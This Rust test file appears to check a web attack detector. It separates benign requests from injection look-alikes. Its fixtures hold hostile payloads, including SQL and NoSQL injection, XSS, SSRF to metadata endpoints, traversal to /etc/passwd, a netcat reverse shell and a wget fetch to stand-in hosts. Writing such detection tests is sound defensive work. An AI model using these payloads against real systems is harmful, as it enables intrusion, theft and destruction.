//! What applications, languages and browsers send by themselves, beside the attacks that look like it.

use super::*;

/// The alerts of a query as it stands, and of the same as a form.
fn loud(query: &str) -> Vec<Hit> {
    let target = format!("/a?{query}");
    let get = Request { method: b"GET", target: target.as_bytes(), ..Request::default() };
    let post = Request {
        method: b"POST",
        target: b"/a",
        content_type: b"application/x-www-form-urlencoded",
        body: query.as_bytes(),
        ..Request::default()
    };
    [get, post].iter().flat_map(hits).filter(|hit| hit.score >= THRESHOLD).collect()
}

fn loud_document(body: &str) -> Vec<Hit> {
    let request = Request {
        method: b"POST",
        target: b"/api/a",
        content_type: b"application/json",
        body: body.as_bytes(),
        ..Request::default()
    };
    hits(&request).into_iter().filter(|hit| hit.score >= THRESHOLD).collect()
}

pub(super) fn passes(queries: &[&str]) {
    for query in queries {
        assert!(loud(query).is_empty(), "{query}: {:?}", loud(query));
    }
}

pub(super) fn alarms(kind: Kind, queries: &[&str]) {
    for query in queries {
        let told = loud(query).iter().filter(|hit| hit.kind == kind).count();
        assert_eq!(told, 2, "{query}: {:?}", loud(query));
    }
}

#[test]
fn operators_are_told_by_what_they_stand_for() {
    passes(&[
        "filters[stock][$lt]=40&sort=stock:desc",
        "filter[$and][0][city][$eq]=Lyon&filter[$and][1][open][$eq]=true",
        "created_at[$gte]=2025-03-01&created_at[$lt]=2025-04-01",
        "tags[$in][]=red&tags[$in][]=blue",
        "where={\"size\":{\"$gte\":12,\"$lt\":30}}",
        "_id[$gt]=65f0c1d2e3a4b5c6d7e8f901&$limit=20",
        "state__exact=3&p=2",
        "title__icontains=garden",
        "owner__group__name__iexact=sales",
        "published__lte=2025-01-01",
    ]);
    alarms(
        Kind::Nosql,
        &[
            "login[$ne]=a&pwd[$ne]=b",
            "name=bob&passphrase[$regex]=^k",
            "reset_token[$exists]=true",
            "f[$where]=this.a.length",
            "{\"$gt\":\"\"}",
            "q={\"mail\":{\"$ne\":null}}",
        ],
    );
    alarms(Kind::Sqli, &["owner__password__startswith=k", "email__regex=^a"]);
    for body in [
        r#"{"filter":{"height":{"$lte":190,"$gt":150}},"limit":5}"#,
        r#"{"query":{"$or":[{"kind":"a"},{"kind":"b"}]}}"#,
        r#"{"selector":{"_id":{"$in":["a1","b2"]}},"fields":["x"]}"#,
    ] {
        assert!(loud_document(body).is_empty(), "{body}: {:?}", loud_document(body));
    }
    for body in [
        r#"{"email":{"$gt":""},"pass":{"$gt":""}}"#,
        r#"{"a":{"$where":"sleep(9)"}}"#,
        r#"{"filter":{"secret":{"$regex":"^x"}}}"#,
    ] {
        assert!(loud_document(body).iter().any(|hit| hit.kind == Kind::Nosql), "{body}");
    }
}

#[test]
fn apostrophes_of_languages_close_nothing() {
    quiet(&[
        "la toison d'or",
        "feuille d'or 24",
        "l'union des peuples",
        "dell'union",
        "students' union",
        "bain d'or et d'argent",
        "10' or 12'",
        "4\" and 6\" hoses",
        "7' = 84\"",
    ]);
    fires(
        Kind::Sqli,
        &[
            "d' or 2=2",
            "d'or'b'='b",
            "ned'or 8=8--",
            "d'union select 4,5",
            "students' union select 1 from a",
            "10' or '12'='12",
            "4\" or \"6\"=\"6",
        ],
    );
}

#[test]
fn the_machine_itself_is_where_a_browser_may_go() {
    passes(&[
        "client_id=a&redirect_uri=http://127.0.0.1:49800/done&scope=b",
        "redirect_uri=http%3A%2F%2Flocalhost%3A5173%2Fauth%2Fcallback",
        "post_logout_redirect_uri=https://localhost:7001/",
        "returnUrl=http://[::1]:9000/",
    ]);
    alarms(
        Kind::Ssrf,
        &[
            "url=http://127.0.0.1:49800/done",
            "img=http://localhost:5173/a.png",
            "redirect_uri=http://127.0.0.1:6379/",
            "next=http://localhost:8080/actuator/env",
            "redirect_uri=http://169.254.169.254/latest/",
            "return_to=gopher://127.0.0.1:49800/_x",
        ],
    );
    let document = loud_document(r#"{"redirect_uris":["http://localhost:3456/cb"]}"#);
    assert!(document.is_empty(), "{document:?}");
}

#[test]
fn words_behind_separators_are_no_commands() {
    quiet(&[
        "&reg; Brand",
        "&copy; 1999 Someone",
        "garden | id",
        "Bar; sleep 1",
        "shelf; cat 7 bed",
        "&find it",
        "&time",
        "$HOME",
        "${title}",
        "${ORDER_ID}",
        "TypeError: a\n at <anonymous>:3:9",
    ]);
    fires(
        Kind::Command,
        &[
            "10.1.1.1 | id",
            "x; sleep 9",
            "&id",
            "&& time sh -c a",
            "a;cat /etc/issue",
            "& powershell iwr http://h.example/a",
            "|sc query",
            "&type nul > c:\\a.txt",
            "=cmd|' /C ver'!B2",
            "${cmd}",
        ],
    );
}

#[test]
fn queries_of_an_interface_are_its_own() {
    passes(&[
        "where=1%3D1&outFields=*&f=geojson",
        "q=SELECT%20Id,%20Email%20FROM%20Lead%20WHERE%20City%20=%20'Oslo'",
        "nrql=SELECT%20average(duration)%20FROM%20PageView%20SINCE%203%20hours%20ago",
        "filter={\"where\":{\"city\":\"Oslo\"},\"skip\":5}",
        "org.apache.struts.taglib.html.TOKEN=0a1b2c3d",
    ]);
    alarms(
        Kind::Sqli,
        &[
            "id=1%3D1",
            "where=1%3D1%20union%20select%201,2",
            "q=SELECT%20Id%20FROM%20Lead%20UNION%20SELECT%201%20FROM%20a",
            "where=1%20or%201%3D1",
        ],
    );
}

#[test]
fn what_pages_embed_is_shown_and_not_run() {
    quiet(&[
        "<iframe width=\"400\" height=\"300\" src=\"https://player.example/v/1\" allowfullscreen></iframe>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\"><path d=\"M1 1h6\"/></svg>",
        "<!-- wp:paragraph --><h2 class=\"a\">Title</h2><!-- /wp:paragraph -->",
        "@import url(\"https://fonts.example/css?family=A\");",
        "../../static/img/logo.svg",
        "jdbc:mysql://localhost:3306/shop",
        "ldap://dir.example.org/ou=people,dc=example",
    ]);
    fires(
        Kind::Xss,
        &[
            "<iframe width=\"1\" height=\"1\" src=\"https://h.example/\" allowfullscreen onload=a()></iframe>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"javascript:a()\"/></svg>",
            "@import url(javascript:a());",
            "<iframe src=\"https://h.example/\"></iframe>",
        ],
    );
    fires(Kind::Traversal, &["../../../etc/passwd%00.png", "../../../../boot.ini"]);
    fires(Kind::Ssrf, &["ldap://h.example:1389/Exploit", "http://localhost:3306/"]);
    let report = r#"{"csp-report":{"violated-directive":"script-src","script-sample":"eval(a)"}}"#;
    assert!(loud_document(report).is_empty(), "{:?}", loud_document(report));
}

#[test]
fn sentences_with_one_technical_word_stay_quiet() {
    quiet(&[
        "xp_cmdshell was turned off, who did it",
        "subprocess.call or os.popen",
        "child_process.fork vs cluster",
        "!ENTITY in DTD",
        "entity system overview",
        "function keyword in javascript",
        "function(x) = 2x",
        "function() vs arrow function {}",
        "module.exports vs exports",
        "module.exports == exports",
        "waitfor delay or a loop",
        "order by case when empty first",
        "when should one use <iframe> today",
        "javascript: what is hoisting",
        "main/src/etc/passwd_reader.py",
    ]);
    fires(
        Kind::Sqli,
        &[
            "1; exec xp_cmdshell 'a'",
            "1;waitfor delay '0:0:3'",
            "(case when 1=1 then 1 else 2 end)",
        ],
    );
}

#[test]
fn words_and_units_that_look_like_code_stay_quiet() {
    passes(&[
        "q=union+select+panel",
        "q=credit+union+select+branch",
        "name=Create+Table+Setting",
        "q=create+view+points",
        "q=benchmark+(woodwork)",
        "q=sleep(ing)+beauty",
        "item=Wrench+3/8%22-5/8%22+x+6",
        "highlight=redis%2bselect",
        "q=ping+-a",
        "q=rm+-r+meaning",
        "q=javascript:+const",
        "keyword=%7C%7C",
        "q=%21%3D",
        "continue=%7C%7C",
        "q=having+where+2%3D2+what",
        "q=%22union+jack%22",
        "q=what+means+/etc/fstab",
        "q=C:%5CWindows%5CTemp",
        "q=phpinfo()+shows+what",
        "q=directory+filter+(cn%3Dprinter)",
        "q=%3C%25%3D+title+%25%3E",
        "query=up%7Bpath%3D%22/etc/hosts%22%7D",
        "q=select+*+from+prices",
    ]);
    alarms(
        Kind::Sqli,
        &[
            "id=7+union+select+panel",
            "q=drop+table+users",
            "q=%27+union+select+panel",
            "q=union+select+1,2",
            "name=a;+create+table+b",
            "q=sleep(9)",
            "level=%7C%7C",
            "id=5%27-%279",
            "id=1+and+user_name()%3D%27a%27",
            "id=3%27+and+dbms_lob.read(%27a%27)%3D1--",
            "q=select+*+from+prices+union+select+1,2",
        ],
    );
    alarms(Kind::Command, &["q=rm+-rf+/", "q=;busybox+nc+192.0.2.1+9+-e+sh", "q=$(%3Ca.txt)"]);
    alarms(Kind::Ldap, &["q=(|(cn%3D*)(userPassword%3Da*))", "uid=*)(|%26'", "q=*()|%26'"]);
}

#[test]
fn fields_for_sentences_hold_code_that_breaks_out_of_nothing() {
    passes(&[
        "message=Use+DELETE+FROM+log+WHERE+id%3D4;+then+COMMIT;",
        "comment=git+log+--stat+|+head+-5",
        "body=Type+%60df+-h%60+and+tell+us+what+it+says",
        "message=Write+console.table(a);+or+alert(b)+there.",
        "message=location+/+{+proxy_pass+http://127.0.0.1:8080;+}",
        "comment=systemctl+reload+nginx;+journalctl+-u+nginx",
        "body=require('../../tools');+import+a+from+'../b';",
        "message=crontab:+0+4+*+*+*+/usr/bin/php+/var/www/a/b+run",
        "comment=import+sys;+print(sys.getcwd())",
    ]);
    alarms(Kind::Sqli, &["message=1'+or+'1'%3D'1", "comment=4;+drop+table+a--"]);
    alarms(
        Kind::Command,
        &[
            "message=;cat+/etc/passwd",
            "message=hello+my+friend;+cat+/etc/passwd",
            "body=$(wget+http://192.0.2.1/a)",
        ],
    );
    alarms(Kind::Xss, &["message=%3Cscript%3Ealert(1)%3C/script%3E", "body=';alert(1)//"]);
}

#[test]
fn documents_carry_queries_templates_and_logs() {
    for body in [
        r#"{"rawSql":"SELECT a, count(*) FROM visits WHERE day >= '2025-01-01' GROUP BY a"}"#,
        r#"{"query":"query Q($where: filter_input) { a(where: $where) { id } }","variables":{}}"#,
        r#"{"summary":"{{ $labels.host }} is {{ $value | printf \"%.1f\" }}"}"#,
        r#"{"message":"198.51.100.4 - - \"GET /a?q=b HTTP/1.1\" 200"}"#,
        r#"{"console":["GET http://localhost:3000/ failed"]}"#,
        r#"{"scripts":{"build":"node ./tools/a.js"}}"#,
        r#"{"text":"请执行 `df -h` 并回复"}"#,
        r#"{"added":["etc/passwd.sample"]}"#,
    ] {
        assert!(loud_document(body).is_empty(), "{body}: {:?}", loud_document(body));
    }
    for body in [
        r#"{"query":"mutation{login(a:\"b\",password:{_ne:\"\"}){token}}"}"#,
        r#"{"query":"{a{b{a{b{a{b{a{b{a{b{a{b{a{b{id}}}}}}}}}}}}}}}"}"#,
        r#"{"sql":"SELECT a FROM b UNION SELECT password FROM c"}"#,
        r#"{"__pro__proto__to__":{"a":1}}"#,
        r#"{"url":"ldap://127.0.0.1:389/\nstats\nquit"}"#,
    ] {
        assert!(!loud_document(body).is_empty(), "{body}");
    }
}

#[test]
fn what_editors_and_programs_upload_is_shown() {
    passes(&[
        "html=%3Cp%3E%3Ciframe+src%3D%22https://player.vimeo.com/video/7%22%3E%3C/iframe%3E%3C/p%3E",
        "html=%3Cmath+xmlns%3D%22http://www.w3.org/1998/Math/MathML%22%3E%3Cmn%3E4%3C/mn%3E%3C/math%3E",
        "html=%3Clink+rel%3D%22stylesheet%22+href%3D%22../a.css%22%3E",
        "svg=%3Csvg+xmlns%3D%22http://www.w3.org/2000/svg%22%3E%3Cstyle%3E.b{fill:red}%3C/style%3E%3Cpath+d%3D%22M0+0%22/%3E%3C/svg%3E",
    ]);
    alarms(
        Kind::Xss,
        &[
            "html=%3Ciframe+src%3D%22https://a.example/b%22%3E%3C/iframe%3E",
            "html=%3Clink+rel%3D%22stylesheet%22+href%3D%22//a.example/b.css%22%3E",
            "svg=%3Csvg+xmlns%3D%22http://www.w3.org/2000/svg%22%3E%3Cstyle%3E%3Cimg+src%3Da+onerror%3Dalert(1)%3E%3C/style%3E%3C/svg%3E",
        ],
    );
}

#[test]
fn documents_name_operators_and_options_have_theirs() {
    passes(&[
        "filter=[{\"operator\":\"like\",\"value\":\"spring%25\",\"property\":\"title\"}]",
        "filter=[{%22op%22:%22in%22,%22val%22:[1,2]},{%22op%22:%22between%22,%22val%22:[3,4]}]",
        "domain=[[\"name\",\"ilike\",\"abc\"],[\"state\",\"in\",[1,2]]]",
        "super=%255B%257B%2522rule%2522%253A%2522like%2522%252C%2522val%2522%253A%2522a%2522%257D%255D",
        "$select=subject,from&$top=5",
        "$search=%22subject:a%20AND%20from:b%22&$select=subject,from",
        "x=SU%24%25%3D%7C",
        "k=select%20*%20from%20orders%20where%20id%20%3D%201",
        "f%5B%5D=due_date&op%5Bdue_date%5D=%3E%3D&v%5Bdue_date%5D%5B%5D=7",
        "filters[0][operator]=!%3D&filters[0][value]=3",
        "form_data=%7B%22operator%22%3A%22%3E%3D%22%2C%22comparator%22%3A%221%22%7D",
        "columns=a,b&separator=%7C%7C",
    ]);
    alarms(
        Kind::Sqli,
        &["op=1'%20or%201=1--%20", "op%5Ba%5D=1%20union%20select%201,2", "a=%3C%3E"],
    );
    alarms(Kind::Sqli, &["a=x'%20like%20'x", "a=1'like'1", "a=x%22%20in%20(select%201)--%20"]);
}

#[test]
fn queries_of_dashboards_are_told_by_their_own_parameter() {
    passes(&[
        "db=a&q=SELECT%20mean(%22x%22)%20FROM%20%22cpu%22%20WHERE%20time%20%3E%3D%20now()%20-%206h%20GROUP%20BY%20time(30s)&epoch=ms",
        "q=path%3A**%2F*.sql+%22select+*%22&type=code",
        "text=INSERT+INTO+table+VALUES",
        "s=eval()%20vs%20exec()%20python",
        "s=sleep(5)%20method%20java",
    ]);
    alarms(
        Kind::Sqli,
        &[
            "db=a&q=SELECT%20a%20FROM%20b%20UNION%20SELECT%20c%20FROM%20d&epoch=ms",
            "a=1&b=sleep(5)",
        ],
    );
    alarms(Kind::Xss, &["q=<img src=x&onerror=alert(1)>", "s=x'-eval(name)-'"]);
}

#[test]
fn what_is_asked_about_is_not_run() {
    quiet(&[
        "/bin/sh vs /bin/bash",
        "python -c",
        "tail -f log",
        "ls -la output explained",
        "information_schema.tables postgres list tables",
        "http://127.0.0.1:8000/admin django",
        "why does document.getElementById('x') return null",
        "the button, onclick=\"save()\" is called twice",
        "<pre class=\"brush:js\">var a = 1; if (a &lt; 2) { b(); }</pre>",
        "There's a chance; 'yes' or 'no'? ('maybe' isn't one)",
        "What stands between \" and ' in strings of PHP? $a = 'b' . \"c\";",
    ]);
    fires(Kind::Command, &["x;/bin/bash", "python -c 'import os'", "tail -f /etc/passwd"]);
    fires(Kind::Ssrf, &["http://127.0.0.1:8000/admin"]);
    fires(Kind::Xss, &["x';document.getElementById('a').innerHTML='b", "a onclick=save()"]);
    fires(Kind::Sqli, &["1;if(1=1) waitfor delay '0:0:5'", "1'; if (select 1)=1 select sleep(3)"]);
}

#[test]
fn pages_are_called_after_what_they_document() {
    let asked = |path: &str| {
        let request = Request { method: b"GET", target: path.as_bytes(), ..Request::default() };
        hits(&request).iter().any(|hit| hit.score >= THRESHOLD)
    };
    assert!(!asked("/class/java.lang.Runtime.html"));
    assert!(!asked("/api/system.diagnostics.process.start"));
    assert!(!asked("/blog/select-from-where-explained"));
    assert!(asked("/a/${T(java.lang.Runtime).getRuntime()}"));
}

#[test]
fn short_and_written_out_probes_are_told() {
    fires(Kind::Sqli, &["495';", "7')"]);
    fires(Kind::Command, &["1;telnetd", "1&`uname -a`&2&`uname -a`&"]);
    fires(Kind::Xpath, &["count(//*)"]);
    fires(Kind::Nosql, &["this.secret.match(/^a/)"]);
    fires(
        Kind::Protocol,
        &["\\r\\nSet-Cookie: a=1", "q\\r\\tSet-Cookie:a=1", "x\\r\\tLocation: /a"],
    );
    fires(Kind::Traversal, &["~/.ssh/authorized_keys"]);
    alarms(Kind::Traversal, &["f=ftp%3A%2F%2F198.51.100.7%2Fa.txt"]);
    let body = r#"{"py/reduce":[{"py/function":"a"},{"py/tuple":[1]}]}"#;
    assert!(loud_document(body).iter().any(|hit| hit.kind == Kind::Deserialization));
    quiet(&[
        "5'10\"",
        "it's 7' tall",
        "count the stars",
        "this.value",
        "C:\\root\\new",
        "C:\\new location: a",
    ]);
}

#[test]
fn what_manuals_and_programs_write_is_quiet() {
    quiet(&[
        "use the '+' and '/' characters",
        "the `size` and `name` fields (#12)",
        "- Use `into` in `from` impls ([#479])",
        "fn main() -> Result<(), Box<dyn Error>> {",
        "f(a, b)\n    () {'a': 1}",
        "node operator()() { return *this; }",
        "git cat-file <type> <object>",
        "void get(Local<Object> object)",
        "prune [--expire <time>] [<head>...]",
        "<cfile> names the file",
        "void sort(int (*)(const void *, const void *))",
        "print $x, \"\\n\"; # prints 5",
        "so we ran\n$ gcloud keys update frodo --all",
        "an arbitrary `Write` object",
        "what is <script>",
        "${HOME} variable",
        "Uuid::parse_str(\"67e55044\")?;",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
        "<link rel=\"shortcut icon\" href=\"https://h.example/a.ico\" />",
    ]);
    fires(
        Kind::Xss,
        &[
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-7\">",
            "x\"><body onload=a()>",
            "x <script>",
            "<link rel=import href=//h.example>",
        ],
    );
    fires(Kind::Ldap, &["*)(uid=*", "a*)(|(b=*)"]);
    fires(Kind::Command, &["pi<()ng 127.0.0.1", "() { x; }; id", "1\nid", "x(){ x|x& };x"]);
    fires(Kind::Code, &["<cfexecute name=\"a\">", "<cfset a=1>", "parse_str(\"a=b\")"]);
    fires(Kind::Sqli, &["x';#", "a` or 1=1 -- ", "'; -- a", "x 'or'1'='1"]);
}
